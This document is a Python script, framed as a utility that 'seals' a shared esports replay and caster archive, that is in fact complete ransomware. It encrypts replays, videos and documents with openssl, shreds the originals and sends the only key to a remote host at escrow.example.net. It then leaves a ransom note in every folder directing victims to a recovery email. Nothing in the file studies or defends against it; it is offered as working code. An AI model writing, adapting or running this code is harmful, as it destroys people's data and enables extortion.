#!/usr/bin/env python3
"""'Seal' the shared replay and caster archive.

Walks the share, encrypts every media/replay/document file with a one-off
key that is only handed to the remote escrow, deletes the originals and
leaves a note telling the crew how to get the key back.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
import urllib.request

LOG = logging.getLogger("sealer")

TARGET_EXT = {".dem", ".replay", ".mp4", ".mkv", ".png", ".jpg",
              ".docx", ".xlsx", ".pdf", ".csv", ".json", ".db"}
ESCROW_URL = "http://escrow.example.net/k"
NOTE = """YOUR ARENA ARCHIVE HAS BEEN SEALED.

All replays, caster footage and documents on this share were encrypted.
To receive the key, contact recovery@example.net with ID {sid}.
Do not rename the .sealed files or the data will be lost.
"""

SEAL_SCRIPT = r"""#!/bin/bash
set -u
n=0
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.sealed" \
            -pass env:SEAL_KEY 2>/dev/null; then
        shred -u "$f" 2>/dev/null || rm -f "$f"
        n=$((n + 1))
    fi
done < "$FILE_LIST"
echo "$n"
"""


class ArchiveWalker:
    def __init__(self, root):
        self.root = os.path.abspath(root)

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if os.path.splitext(name)[1].lower() in TARGET_EXT:
                    yield os.path.join(dirpath, name)


def escrow_key(session_id, key):
    data = f"{session_id}:{key}".encode()
    req = urllib.request.Request(ESCROW_URL, data=data, method="POST")
    try:
        urllib.request.urlopen(req, timeout=10).close()
    except Exception as exc:  # keep going even when escrow is unreachable
        LOG.debug("escrow failed: %s", exc)


def seal(paths, key):
    fd, list_path = tempfile.mkstemp(prefix="seal-", suffix=".lst")
    with os.fdopen(fd, "wb") as fh:
        for p in paths:
            fh.write(p.encode() + b"\0")
    fd, script_path = tempfile.mkstemp(prefix="seal-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SEAL_SCRIPT)
    env = dict(os.environ, SEAL_KEY=key, FILE_LIST=list_path)
    try:
        out = subprocess.run(["bash", script_path], env=env,
                             capture_output=True, text=True, check=False)
        return int(out.stdout.strip() or 0)
    finally:
        os.unlink(list_path)
        os.unlink(script_path)


def drop_notes(root, session_id):
    for dirpath, _dirs, _files in os.walk(root):
        try:
            with open(os.path.join(dirpath, "README_RECOVER.txt"), "w") as fh:
                fh.write(NOTE.format(sid=session_id))
        except OSError:
            continue


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="/srv/arena/share")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not os.path.isdir(args.root):
        LOG.error("%s is not a directory", args.root)
        return 1
    session_id = secrets.token_hex(6)
    key = secrets.token_urlsafe(32)
    paths = list(ArchiveWalker(args.root).targets())
    LOG.info("found %d files under %s", len(paths), args.root)
    if not paths:
        return 0
    escrow_key(session_id, key)
    sealed = seal(paths, key)
    del key
    drop_notes(args.root, session_id)
    LOG.info("sealed %d files, session %s", sealed, session_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
